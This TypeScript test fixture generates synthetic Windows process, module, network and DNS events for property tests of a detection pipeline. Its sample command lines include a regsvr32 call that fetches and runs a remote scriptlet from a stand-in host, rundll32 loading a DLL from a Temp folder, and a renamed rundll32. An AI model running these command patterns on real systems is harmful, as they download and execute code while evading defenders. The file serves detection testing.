import fc from 'fast-check'
import type { CordonEvent, ProcessCreation, Sensor } from '@/lib/pipeline/event/event'

/** Drawn fleets for property tests of recomputation: few hosts, days and process ids, so that everything that can collide does. */

const HOSTS = ['ws-1.corp.example', 'ws-2.corp.example', 'srv-1.corp.example']
const PARENTS = [
  'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
]
const USES = [
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Users\\ada\\AppData\\Local\\Temp\\k2j4h6.dll,Start',
  ],
  ['C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll'],
  ['C:\\Windows\\System32\\msiexec.exe', 'msiexec /i C:\\Windows\\ccmcache\\a\\tool.msi /qn'],
  ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe notes.txt'],
  // a renamed copy of rundll32, and a program of a user's that is none
  [
    'C:\\Users\\ada\\AppData\\Local\\Temp\\update.exe',
    'update.exe shell32.dll,Control_RunDLL desk.cpl',
    'RUNDLL32.EXE',
  ],
  ['C:\\Users\\ada\\AppData\\Local\\Temp\\teams.exe', 'teams.exe'],
] as const
const FIRST_DAY_US = Date.UTC(2026, 0, 5) * 1000
const DAY_US = 86_400_000_000

/** A process that a sensor or two report, and what it does. */
export type Draw = {
  host: number
  day: number
  minute: number
  use: number
  parent: number
  pid: number
  sensors: Sensor[]
  /** Hours that the Security log's clock is shifted by. */
  shift: number
  actions: Action[]
}

/** What a process does, minutes after its start; `sensor` security = connections that name only the process id. */
type Action = {
  what: 'module' | 'connection' | 'query' | 'child'
  variant: number
  after: number
  sensor: Sensor
}

export const draw: fc.Arbitrary<Draw> = fc.record({
  host: fc.nat(HOSTS.length - 1),
  day: fc.nat(9),
  // half of them just before midnight: what they do falls on the next day
  minute: fc.oneof(fc.nat(1439), fc.integer({ min: 1385, max: 1439 })),
  use: fc.nat(USES.length - 1),
  parent: fc.nat(PARENTS.length - 1),
  pid: fc.integer({ min: 100, max: 105 }),
  sensors: fc.constantFrom<Sensor[]>(['sysmon'], ['security'], ['sysmon', 'security']),
  shift: fc.constantFrom(0, 0, 7, -7),
  actions: fc.array(
    fc.record<Action>({
      what: fc.constantFrom('module', 'connection', 'query', 'child'),
      variant: fc.nat(2),
      after: fc.constantFrom(0, 1, 30, 59, 61, 1500),
      sensor: fc.constantFrom('sysmon', 'security'),
    }),
    { maxLength: 3 },
  ),
})

export type Item = { event: CordonEvent; hostName: string }

export function toCreation(drawn: Draw, sensor: Sensor): { event: ProcessCreation; hostName: string } {
  const [image, commandLine, originalFileName = null] = USES[drawn.use] ?? USES[0]
  const us = FIRST_DAY_US + drawn.day * DAY_US + drawn.minute * 60_000_000
  const hostName = HOSTS[drawn.host] ?? `pc-${drawn.host}.corp.example`
  // Security's clock is a little later, as in real logs
  const atUs = sensor === 'sysmon' ? us : us + 7_000 + drawn.shift * 3_600_000_000
  const event: ProcessCreation = {
    kind: 'process-creation',
    recordKey: `${sensor} ${drawn.host} ${us} ${drawn.pid} ${drawn.use}`,
    sensor,
    host: hostName,
    time: { us: atUs, tick: 0 },
    timeSource: 'utc-time',
    recordId: null,
    position: 1,
    pid: drawn.pid,
    parentPid: 4,
    processGuid: sensor === 'sysmon' ? `g-${us}-${drawn.pid}` : null,
    parentProcessGuid: null,
    image,
    commandLine,
    currentDirectory: null,
    originalFileName,
    parentImage: PARENTS[drawn.parent] ?? null,
    parentCommandLine: null,
    grandparentImage: null,
    user: 'CORP\\ada',
    userSid: null,
    integrityLevel: sensor === 'sysmon' ? 'medium' : null,
    logonId: null,
    hashes: null,
    signer: null,
  }
  return { event, hostName }
}

const MODULES = [
  ['C:\\Users\\ada\\AppData\\Local\\Temp\\k2j4h6.dll', false],
  ['C:\\Windows\\System32\\scrobj.dll', true],
  ['C:\\Windows\\System32\\ntdll.dll', true],
] as const
const ADDRESSES = ['203.0.113.7', '198.51.100.9', '10.0.0.5']
const CHILDREN = [
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\rundll32.exe',
]

/** The events of a drawn action, as its process's sensor reports them. */
function toAction(drawn: Draw, action: Action, index: number): Item {
  const parent = toCreation(
    drawn,
    drawn.sensors.includes(action.sensor) ? action.sensor : (drawn.sensors[0] ?? 'sysmon'),
  )
  const { event: by, hostName } = parent
  const us = by.time.us + action.after * 60_000_000 + index
  const key = `${action.what} ${by.recordKey} ${us} ${action.variant}`
  const { pid, processGuid, image, host, sensor } = by
  const common = {
    recordKey: key,
    host,
    sensor,
    time: { us, tick: 0 },
    timeSource: 'utc-time',
    recordId: null,
    position: 1,
  } as const
  const acting = { pid, processGuid, image }
  const ip = ADDRESSES[action.variant] ?? null
  if (action.what === 'module') {
    const [module, signed] = MODULES[action.variant] ?? MODULES[0]
    const unknown = { originalFileName: null, hashes: null, signer: null, signatureStatus: null }
    return { event: { kind: 'module-load', ...common, ...acting, module, signed, ...unknown }, hostName }
  }
  if (action.what === 'connection') {
    const ends = {
      sourceIp: null,
      sourcePort: null,
      destinationIp: ip,
      destinationHost: null,
      destinationPort: 443,
    }
    const how = {
      protocol: 'tcp',
      initiated: true,
      outcome: action.after === 30 ? 'blocked' : 'allowed',
    } as const
    return { event: { kind: 'network-connection', ...common, ...acting, ...how, ...ends }, hostName }
  }
  if (action.what === 'query') {
    const query = `host${action.variant}.example.com`
    return {
      event: { kind: 'dns-query', ...common, ...acting, query, results: ip === null ? [] : [ip] },
      hostName,
    }
  }
  return {
    event: {
      ...by,
      ...common,
      image: CHILDREN[action.variant] ?? '',
      commandLine: null,
      originalFileName: null,
      pid: 7000 + index,
      processGuid: sensor === 'sysmon' ? `g-${key}` : null,
      parentPid: pid,
      parentProcessGuid: processGuid,
      parentImage: image,
    },
    hostName,
  }
}

/** Every event of a drawn process. */
export function everythingOf(drawn: Draw): Item[] {
  return [
    ...drawn.sensors.map((sensor) => toCreation(drawn, sensor)),
    ...drawn.actions.map((action, index) => toAction(drawn, action, index)),
  ]
}
